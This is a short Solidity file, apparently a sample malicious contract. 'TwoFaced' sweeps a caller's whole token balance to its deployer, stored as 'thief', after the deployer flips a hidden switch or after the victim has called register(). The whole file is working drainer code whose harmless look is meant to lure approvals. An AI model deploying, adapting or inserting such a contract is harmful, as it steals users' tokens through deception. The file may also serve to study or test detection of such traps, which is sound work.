// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IToken} from "./IToken.sol";

/// Harmless until its owner turns it round, or until who calls it has taken a first step.
contract TwoFaced {
    address private immutable thief = msg.sender;
    bool public turned;
    mapping(address => bool) public registered;

    function turn() external {
        require(msg.sender == thief, "TwoFaced: not the owner");
        turned = true;
    }

    function register() external {
        registered[msg.sender] = true;
    }

    /// Takes everything once it is turned.
    function claim(IToken token) external {
        if (turned) token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    /// Takes everything from whoever has registered.
    function claimSecond(IToken token) external {
        if (registered[msg.sender]) token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }
}
